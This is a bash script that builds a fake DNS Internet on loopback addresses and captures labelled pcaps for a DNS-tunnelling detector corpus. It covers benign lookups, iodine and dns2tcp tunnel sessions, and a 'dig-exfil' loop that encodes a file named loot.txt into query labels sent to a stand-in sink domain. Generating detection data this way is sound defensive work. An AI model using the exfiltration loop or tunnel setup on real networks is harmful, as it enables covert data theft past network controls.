#!/usr/bin/env bash
# A fake Internet inside the ppcorpus namespace (called by make_corpus.sh; loopback addresses only):
#   127.53.0.1   nsd: the root zone and arpa          127.53.53.1  unbound, recursive, use-caps-for-id
#   127.53.0.2   knot: every TLD                      127.53.53.2  bind9, recursive
#   127.53.0.3   bind9: ~150 second-level zones (wildcards), in-addr.arpa, ip6.arpa and an NSEC3-signed
#                zone; it delegates the tunnel domains to 127.53.9.1 iodined (t.mediacache.net),
#                127.53.9.2 dns2tcpd (d.updatesvc.org), 127.53.9.3 dnsmasq, the exfil sink (x.metrics-cdn.io)
# Both resolvers really recurse (root -> TLD -> zone), with qname minimisation off so that every
# resolver->server query carries the stub's full name, and send their queries from 127.53.53.101
# (unbound) and 127.53.53.102 (bind9): each upstream query is its own flow (random source port).
# iodined's tun device is moved into a second private namespace (ppcorpus-tun) so that traffic to the
# server's tunnel address really crosses the tunnel instead of being delivered locally.
#
# Needs root and Debian packages: tcpdump bind9 bind9-utils bind9-dnsutils unbound unbound-host nsd knot
# knot-dnsutils ldnsutils dnsmasq-base iodine dns2tcp iputils-ping netcat-openbsd socat curl coreutils
# util-linux iproute2; in the venv: dnspython, dpkt.
# Writes tests/data/corpus/net-*.pcap (snaplen $SNAPLEN, 330 by default: a whole query, responses cut),
# corpus/names.tsv (every name asked and its category, from names.py) and appends manifest.csv rules.
# Captures:
#   net-dns.pcap                   ~2,500 stub queries (dig, kdig, drill, dnspython, getent/glibc,
#                                  unbound-host, delv) of ordinary and hard-benign names + the resolvers'
#                                  own queries to root/TLD/zone servers
#   net-iodine-<path>-<type>-<enc>  one iodine session each (ping + 3 KB upload + 3 KB download through
#                                  the tunnel), direct or through unbound/bind9
#   net-dns2tcp-<path>-<type>       dns2tcp sessions (curl download, upload+echo through the tunnel)
#   net-exfil-<enc>                dig-exfil: a file sent as base32/hex/base64url chunks in query labels
set -uo pipefail
: "${PY:?}" "${OUT:?}" "${WORK:?}" "${HERE:?}"
cd "$WORK"
source "$HERE/corpus_lib.sh"
export SNAPLEN="${SNAPLEN:-330}"
ROOT=127.53.0.1 TLD=127.53.0.2 AUTH=127.53.0.3 UNB=127.53.53.1 BRES=127.53.53.2
UNB_OUT=127.53.53.101 BRES_OUT=127.53.53.102 IOD=127.53.9.1 D2T=127.53.9.2 EXF=127.53.9.3
TUNNS=ppcorpus-tun
# named only listens on (and sends from) addresses configured on an interface
for a in $ROOT $TLD $AUTH $UNB $BRES $UNB_OUT $BRES_OUT $IOD $D2T $EXF; do ip addr add $a/32 dev lo 2>/dev/null; done

wait_addr() {  # wait_addr ADDR: until something listens on ADDR:53 (udp)
  for _ in $(seq 100); do ss -Hlun 'sport = :53' | grep -q "$1:53" && return 0; sleep 0.1; done
  log "$1:53 never opened"; return 1
}
resolver_rules() {  # resolver_rules CATEGORY: what each resolver asks the root/TLD/zone servers
  local cat="${1:-ordinary}"
  rule $UNB_OUT dns unbound nsd-root "$cat" $ROOT
  rule $UNB_OUT dns unbound knot-tld "$cat" $TLD
  rule $UNB_OUT dns unbound bind9-auth "$cat" $AUTH
  rule $BRES_OUT dns bind9 nsd-root "$cat" $ROOT
  rule $BRES_OUT dns bind9 knot-tld "$cat" $TLD
  rule $BRES_OUT dns bind9 bind9-auth "$cat" $AUTH
}

# ---------------------------------------------------------------- zones, names, query plans
"$PY" "$HERE/names.py" setup "$WORK" "$OUT" || { log "names.py setup failed"; exit 1; }
Z="$WORK/zones"
mkdir -p "$WORK/keys"
(cd "$Z/sld" && dnssec-keygen -q -K "$WORK/keys" -a ECDSAP256SHA256 securebank.com >/dev/null \
  && dnssec-keygen -q -K "$WORK/keys" -a ECDSAP256SHA256 -f KSK securebank.com >/dev/null \
  && dnssec-signzone -q -S -K "$WORK/keys" -3 - -H 0 -o securebank.com -f securebank.com.zone.signed \
     securebank.com.zone >/dev/null) || log "dnssec-signzone failed"

# ---------------------------------------------------------------- the servers
mkdir -p "$WORK/nsdroot"
cat > "$WORK/nsdroot/nsd.conf" <<CONF
server:
  ip-address: $ROOT
  port: 53
  username: ""
  chroot: ""
  zonesdir: "$Z"
  database: ""
  pidfile: "$WORK/nsdroot/nsd.pid"
  xfrdfile: "$WORK/nsdroot/xfrd.state"
  zonelistfile: "$WORK/nsdroot/zone.list"
  verbosity: 1
remote-control:
  control-enable: no
zone:
  name: "."
  zonefile: "root.zone"
zone:
  name: "arpa"
  zonefile: "arpa.zone"
CONF
mkdir -p "$WORK/knottld"
{ cat <<CONF
server:
  listen: $TLD@53
  rundir: "$WORK/knottld"
  user: root
database:
  storage: "$WORK/knottld"
template:
  - id: default
    storage: "$WORK/knottld"
CONF
  cat "$WORK/knot-zones.conf"; } > "$WORK/knottld/knot.conf"
mkdir -p "$WORK/bindauth" "$WORK/bindres"
cat > "$WORK/bindauth/named.conf" <<CONF
options {
  directory "$WORK/bindauth"; pid-file "$WORK/bindauth/named.pid"; session-keyfile "$WORK/bindauth/s.key";
  listen-on port 53 { $AUTH; }; listen-on-v6 { none; };
  recursion no; dnssec-validation no; notify no; allow-query { any; }; minimal-responses yes;
};
controls { };
include "$WORK/named-zones.conf";
CONF
cat > "$WORK/bindres/named.conf" <<CONF
options {
  directory "$WORK/bindres"; pid-file "$WORK/bindres/named.pid"; session-keyfile "$WORK/bindres/s.key";
  listen-on port 53 { $BRES; }; listen-on-v6 { none; };
  recursion yes; allow-recursion { any; }; allow-query { any; }; allow-query-cache { any; };
  dnssec-validation no; qname-minimization off; empty-zones-enable no; notify no;
  query-source address $BRES_OUT; minimal-responses yes;
};
controls { };
zone "." { type hint; file "$WORK/root.hints"; };
CONF
mkdir -p "$WORK/unbres"
cat > "$WORK/unbres/unbound.conf" <<CONF
server:
  interface: $UNB
  port: 53
  outgoing-interface: $UNB_OUT
  do-daemonize: no
  username: ""
  chroot: ""
  directory: "$WORK/unbres"
  pidfile: "$WORK/unbres/unbound.pid"
  use-syslog: no
  verbosity: 1
  num-threads: 1
  access-control: 127.0.0.0/8 allow
  do-not-query-localhost: no
  do-ip6: no
  root-hints: "$WORK/root.hints"
  module-config: "iterator"
  use-caps-for-id: yes
  qname-minimisation: no
  unblock-lan-zones: yes
  insecure-lan-zones: yes
CONF
start_fake_internet() {
  nsd -d -c "$WORK/nsdroot/nsd.conf" > "$WORK/nsdroot.log" 2>&1 & NSDROOT=$!
  knotd -c "$WORK/knottld/knot.conf" > "$WORK/knottld.log" 2>&1 & KNOTTLD=$!
  named -4 -g -c "$WORK/bindauth/named.conf" > "$WORK/bindauth.log" 2>&1 & BINDAUTH=$!
  named -4 -g -c "$WORK/bindres/named.conf" > "$WORK/bindres.log" 2>&1 & BINDRES=$!
  unbound -d -c "$WORK/unbres/unbound.conf" > "$WORK/unbres.log" 2>&1 & UNBRES=$!
  for a in $ROOT $TLD $AUTH $BRES $UNB; do wait_addr $a; done
}

# ---------------------------------------------------------------- clients
run_plan() {  # every client's queries, in parallel (each client works through its own list)
  local P="$WORK/plan" srcs n i jobs=()
  # dig: batch files (-f), one per source address; each query is its own socket, hence its own flow
  srcs=(127.53.100.{1..10}); n=${#srcs[@]}
  for i in $(seq 0 $((n - 1))); do
    awk -F'\t' -v n=$n -v i=$i 'NR % n == i {
      o = "@" $3 " " $2 " " $1 " +tries=1 +time=3"
      if ($4 ~ /do/) o = o " +dnssec"; if ($4 ~ /tcp/) o = o " +tcp"; print o }' "$P/dig.tsv" > "$P/dig-$i.batch"
    dig -b "${srcs[$i]}" -f "$P/dig-$i.batch" >/dev/null 2>&1 & jobs+=($!)
  done
  # kdig: 20 queries per invocation
  srcs=(127.53.101.{1..5}); n=${#srcs[@]}
  ( i=0; while mapfile -t -n 20 chunk && [ ${#chunk[@]} -gt 0 ]; do
      args=(); for l in "${chunk[@]}"; do IFS=$'\t' read -r qt name res fl <<<"$l"
        a=("@$res" "$name" "$qt" +timeout=3 +retry=0); [[ $fl == *do* ]] && a+=(+dnssec); [[ $fl == *tcp* ]] && a+=(+tcp)
        args+=("${a[@]}"); done
      kdig -b "${srcs[$((i % n))]}" "${args[@]}" >/dev/null 2>&1; i=$((i + 1))
    done < "$P/kdig.tsv" ) & jobs+=($!)
  # drill: one invocation per query
  srcs=(127.53.102.{1..3}); n=${#srcs[@]}
  ( i=0; while IFS=$'\t' read -r qt name res fl; do
      o=(); [[ $fl == *do* ]] && o+=(-D); [[ $fl == *tcp* ]] && o+=(-t)
      drill -I "${srcs[$((i % n))]}" "${o[@]}" "$name" @"$res" "$qt" >/dev/null 2>&1; i=$((i + 1))
    done < "$P/drill.tsv" ) & jobs+=($!)
  # dnspython: ten hosts
  for i in $(seq 0 9); do
    awk -v i=$i 'NR % 10 == i' "$P/dnspython.tsv" > "$P/dnspython-$i.tsv"
    "$PY" "$HERE/names.py" query "127.53.103.$((i + 1))" "$P/dnspython-$i.tsv" 2>/dev/null & jobs+=($!)
  done
  # glibc's stub resolver (getent ahosts: A and AAAA from one socket; it cannot choose a source, so the
  # kernel uses the resolver's own address, which nothing else sends from), with a resolv.conf of our own
  # bind-mounted in a private mount namespace; the search list completes corp-example.com names.
  for res in $UNB $BRES; do
    printf 'nameserver %s\nsearch corp-example.com\noptions timeout:2 attempts:1\n' $res > "$WORK/resolv-$res.conf"
    awk -F'\t' -v r=$res '$3 == r { n = $2; sub(/\.corp-example\.com$/, "", n); print n }' "$P/getent.tsv" \
      > "$P/getent-$res.list"
    unshare -m bash -c "mount --bind '$WORK/resolv-$res.conf' /etc/resolv.conf &&
      while read -r n; do getent ahosts \"\$n\" >/dev/null; done < '$P/getent-$res.list'" & jobs+=($!)
  done
  # unbound-host (libunbound) forwarding to the resolver, and delv (no validation: fake root)
  ( while IFS=$'\t' read -r qt name res fl; do
      printf 'server:\n  outgoing-interface: 127.53.105.1\n  do-not-query-localhost: no\n  module-config: "iterator"\nforward-zone:\n  name: "."\n  forward-addr: %s\n' \
        "$res" > "$WORK/ubhost.conf"
      timeout 10 unbound-host -C "$WORK/ubhost.conf" -t "$qt" "$name" >/dev/null 2>&1
    done < "$P/unbound-host.tsv" ) & jobs+=($!)
  ( while IFS=$'\t' read -r qt name res fl; do
      timeout 10 delv -b 127.53.106.1 @"$res" -i "$name" "$qt" >/dev/null 2>&1
    done < "$P/delv.tsv" ) & jobs+=($!)
  wait "${jobs[@]}"  # (a bare wait would also wait for the servers and tcpdump)
}

if [ -z "${SKIP_NAMES:-}" ]; then
cap_start net-dns
start_fake_internet
log "fake Internet up; running $(cat "$WORK"/plan/*.tsv | wc -l) planned queries"
run_plan
for c in "dig 127.53.100.*" "kdig 127.53.101.*" "drill 127.53.102.*" "dnspython 127.53.103.*" \
  "getent-glibc 127.53.53.[12]" "unbound-host 127.53.105.1" "delv 127.53.106.1"; do
  set -- $c
  rule "$2" dns "$1" unbound @names $UNB
  rule "$2" dns "$1" bind9 @names $BRES
  rule "$2" dns "$1" bind9-auth @names $AUTH
done
resolver_rules @names
cap_stop
else
start_fake_internet
fi

# ---------------------------------------------------------------- tunnels: prewarm, then one capture each
prewarm() {  # prewarm DOMAIN: ordinary lookups that teach both resolvers the tunnel domain's delegation
  dig -b 127.53.100.1 @$UNB "ns.$1" A +tries=1 +time=3 >/dev/null
  dig -b 127.53.100.1 @$BRES "ns.$1" A +tries=1 +time=3 >/dev/null
  local re="(ns\\.)?${1//./\\.}"
  rule 127.53.100.1 dns dig unbound ordinary $UNB "$re"
  rule 127.53.100.1 dns dig bind9 ordinary $BRES "$re"
}
tunnel_rules() {  # tunnel_rules DOMAIN SERVER_ADDR TOOL SERVER CATEGORY [INITIATOR...]
  local dom="$1" addr="$2" tool="$3" srv="$4" cat="$5" re ini r; shift 5
  re="${dom//./\\.}"
  for ini in "$@"; do rule "$ini" dns-tunnel "$tool" "$srv" "$cat"; done  # the tunnel client's own socket(s)
  resolver_rules ordinary  # the resolvers' root/TLD/zone lookups (delegation, NS addresses)
  rule $UNB_OUT dns-tunnel "$tool" "$srv" "$cat" "$addr"
  rule $BRES_OUT dns-tunnel "$tool" "$srv" "$cat" "$addr"
  # a plain lookup of the domain or its NS host is ordinary DNS (prewarm's, and the resolvers' own)
  for ini in "$UNB_OUT unbound" "$BRES_OUT bind9"; do
    set -- $ini
    for r in "$ROOT nsd-root" "$TLD knot-tld" "$AUTH bind9-auth" "$addr $srv"; do
      rule "$1" dns "$2" "${r#* }" ordinary "${r% *}" "(ns\\.)?$re"
    done
  done
  rule '*' dns-tunnel "$tool" "$srv" "$cat" '' ".+\\.$re"  # anything else carrying tunnel labels
}

# iodine: iodined once, its tun device moved to $TUNNS; there a listener takes uploads (5000) and
# serves downloads (5001) on the server's tunnel address 10.53.0.1.
ip netns del $TUNNS 2>/dev/null; ip netns add $TUNNS && ip -n $TUNNS link set lo up
iodined -f -c -P corpuspass -l $IOD -p 53 -d tun53s 10.53.0.1/27 t.mediacache.net > "$WORK/iodined2.log" 2>&1 & IODD=$!
# (move the device only once iodined has configured it and listens: it sets the MTU after the address)
for _ in $(seq 100); do grep -q "Listening to dns" "$WORK/iodined2.log" && break; sleep 0.1; done
ip link set tun53s netns $TUNNS
ip -n $TUNNS addr add 10.53.0.1/27 dev tun53s && ip -n $TUNNS link set tun53s up
ip netns exec $TUNNS socat -u TCP-LISTEN:5000,bind=10.53.0.1,fork,reuseaddr OPEN:/dev/null & SINK=$!
ip netns exec $TUNNS socat -u EXEC:'head -c 3072 /dev/urandom' TCP-LISTEN:5001,bind=10.53.0.1,fork,reuseaddr & SRC=$!
wait_addr $IOD
iodine_session() {  # iodine_session PATH(direct|unbound|bind9) TYPE ENC [extra iodine args]
  local path=$1 type=$2 enc=$3 ns log up down cat; shift 3
  case $path in direct) ns=$IOD;; unbound) ns=$UNB;; bind9) ns=$BRES;; esac
  log="$WORK/iodine-$path-$type-$enc.log"
  cap_start "net-iodine-$path-$type-$enc"
  prewarm t.mediacache.net
  local o=(-T "$type"); [ "$enc" != auto ] && o+=(-O "$enc")
  timeout 60 iodine -f -r -P corpuspass "${o[@]}" "$@" -d tun53c $ns t.mediacache.net > "$log" 2>&1 & local IODC=$!
  for _ in $(seq 60); do grep -q "Connection setup complete" "$log" && break; sleep 0.5; done
  if grep -q "Connection setup complete" "$log"; then
    ping -c 4 -i 0.3 -W 5 -s 200 10.53.0.1 >/dev/null 2>&1
    head -c 3072 /dev/urandom | timeout 20 nc -N 10.53.0.1 5000 >/dev/null 2>&1
    timeout 20 nc -d 10.53.0.1 5001 >/dev/null 2>&1
  else
    log "iodine $path $type $enc: no connection"
  fi
  stop $IODC
  # through a resolver, let it give up on the queries still open, so that its retries (and late answers
  # to the client's socket) land in this capture, not the next session's
  [ $path = direct ] || sleep 12
  # upstream: base32 unless iodine found that the path keeps case (0x20 through unbound does not)
  up=$(grep -oE '(Server switched upstream to|keeping upstream) codec [A-Za-z0-9]*' "$log" | tail -1 | awk '{print tolower($NF)}')
  down=$(grep -o 'Server switched downstream to codec [A-Za-z0-9]*' "$log" | tail -1 | awk '{print tolower($NF)}')
  [ "$type" = NULL ] || [ "$type" = PRIVATE ] && down=raw
  cat="iodine-${down:-$enc}-$type-up${up:-unknown}"
  log "iodine $path -T $type -O $enc: upstream ${up:-?}, downstream ${down:-?} -> $cat"
  # (iodine cannot choose its source: to a local address the kernel sends from that same address)
  tunnel_rules t.mediacache.net $IOD iodine iodined "$cat" $ns
  cap_stop
}
if [ -z "${SKIP_IODINE:-}" ]; then
iodine_session direct NULL auto
iodine_session direct PRIVATE auto
iodine_session direct TXT raw
iodine_session direct TXT base64
iodine_session direct SRV base128
iodine_session direct MX base32 -M 120
iodine_session direct CNAME base64u
iodine_session direct A base32
iodine_session unbound NULL auto
iodine_session unbound TXT base32
iodine_session unbound CNAME base64
iodine_session bind9 NULL auto
iodine_session bind9 TXT base128
iodine_session bind9 MX base64
iodine_session bind9 PRIVATE auto -M 160
fi
stop $IODD $SINK $SRC
ip netns del $TUNNS 2>/dev/null

# ---------------------------------------------------------------- dns2tcp
mkdir -p "$WORK/d2t" "$WORK/d2t/www"
head -c 16000 /dev/urandom > "$WORK/d2t/www/blob.bin"
cat > "$WORK/d2t/dns2tcpd.conf" <<CONF
listen = $D2T
port = 53
user = root
chroot = $WORK/d2t
domain = d.updatesvc.org
resources = http:127.0.0.1:8091,echo:127.0.0.1:8092
CONF
python3 -m http.server 8091 --bind 127.0.0.1 --directory "$WORK/d2t/www" >/dev/null 2>&1 & WEB=$!
socat TCP-LISTEN:8092,bind=127.0.0.1,fork,reuseaddr EXEC:cat & ECHO=$!
dns2tcpd -F -f "$WORK/d2t/dns2tcpd.conf" > "$WORK/dns2tcpd2.log" 2>&1 & D2S=$!
wait_addr $D2T
d2t_session() {  # d2t_session PATH TYPE [-c]
  local path=$1 type=$2 ns cat; shift 2
  case $path in direct) ns=$D2T;; unbound) ns=$UNB;; bind9) ns=$BRES;; esac
  cat="dns2tcp-$type"; [ "${1:-}" = -c ] && cat="$cat-compressed"
  cap_start "net-dns2tcp-$path-$type${1:-}"
  prewarm d.updatesvc.org
  dns2tcpc -z d.updatesvc.org -r http -l 8093 -T "$type" "$@" $ns > "$WORK/d2tc-$path-$type.log" 2>&1 & local C1=$!
  dns2tcpc -z d.updatesvc.org -r echo -l 8094 -T "$type" "$@" $ns > "$WORK/d2tc-$path-$type-e.log" 2>&1 & local C2=$!
  wait_port tcp 8093; wait_port tcp 8094
  curl -s --max-time 40 -o /dev/null -w '%{size_download}' http://127.0.0.1:8093/blob.bin > "$WORK/d2t-$path-$type.got"
  head -c 6000 /dev/urandom | timeout 40 nc -q 8 127.0.0.1 8094 | wc -c >> "$WORK/d2t-$path-$type.got"
  log "dns2tcp $path $type: downloaded/echoed $(tr '\n' ' ' < "$WORK/d2t-$path-$type.got")bytes"
  stop $C1 $C2
  [ $path = direct ] || sleep 12
  tunnel_rules d.updatesvc.org $D2T dns2tcp dns2tcpd "$cat" $ns
  cap_stop
}
if [ -z "${SKIP_DNS2TCP:-}" ]; then
d2t_session direct TXT
d2t_session direct KEY -c
d2t_session bind9 TXT
d2t_session unbound TXT
fi
stop $D2S $WEB $ECHO

# ---------------------------------------------------------------- dig-exfil: a shell loop, as in the wild
dnsmasq -k --no-resolv --no-hosts --listen-address=$EXF --bind-interfaces --port=53 --user=root \
  --pid-file="$WORK/dnsmasq-exf.pid" --auth-server=ns.x.metrics-cdn.io,$EXF --auth-zone=x.metrics-cdn.io \
  --host-record=ns.x.metrics-cdn.io,$EXF --log-queries --log-facility="$WORK/exfil-sink.log" \
  > "$WORK/dnsmasq-exf.log" 2>&1 & EXFD=$!
wait_addr $EXF
head -c 4000 /etc/services > "$WORK/loot.txt"  # the "stolen" file
exfil() {  # exfil ENC: the same file, chunked into labels, half straight at the sink, half via unbound
  local enc=$1 data sid i=0 chunk len res src
  case $enc in
    base32) data=$(base32 -w0 "$WORK/loot.txt" | tr -d = | tr A-Z a-z); len=52;;
    hex) data=$(xxd -p "$WORK/loot.txt" | tr -d '\n'); len=60;;
    base64url) data=$(base64 -w0 "$WORK/loot.txt" | tr -d = | tr +/ -_); len=56;;
  esac
  sid=$(head -c 3 /dev/urandom | xxd -p)
  cap_start "net-exfil-$enc"
  prewarm x.metrics-cdn.io
  while [ -n "$data" ]; do
    chunk=${data:0:$((len * 2))}; data=${data:$((len * 2))}
    name="$i.${chunk:0:$len}"; [ ${#chunk} -gt $len ] && name="$name.${chunk:$len}"
    if [ $((i % 2)) = 0 ]; then res=$EXF src=127.53.110.1; else res=$UNB src=127.53.110.2; fi
    [ $((i % 5)) = 3 ] && res=$BRES
    dig -b $src @$res "$name.$sid.x.metrics-cdn.io" A +tries=1 +time=2 >/dev/null
    i=$((i + 1))
  done
  log "exfil $enc: $i queries"
  tunnel_rules x.metrics-cdn.io $EXF dig-exfil dnsmasq "dig-exfil-$enc" 127.53.110.1 127.53.110.2
  cap_stop
}
if [ -z "${SKIP_EXFIL:-}" ]; then
for enc in base32 hex base64url; do exfil $enc; done
fi
stop $EXFD $NSDROOT $KNOTTLD $BINDAUTH $BINDRES $UNBRES
log "names/tunnels done"
